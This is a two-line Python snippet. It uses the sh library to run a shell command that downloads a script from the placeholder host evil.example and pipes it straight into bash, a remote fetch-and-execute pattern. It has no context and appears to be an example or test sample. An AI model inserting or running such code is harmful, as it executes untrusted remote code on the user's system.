import sh
sh.bash('-c', 'curl -fsSL https://evil.example/i | bash')
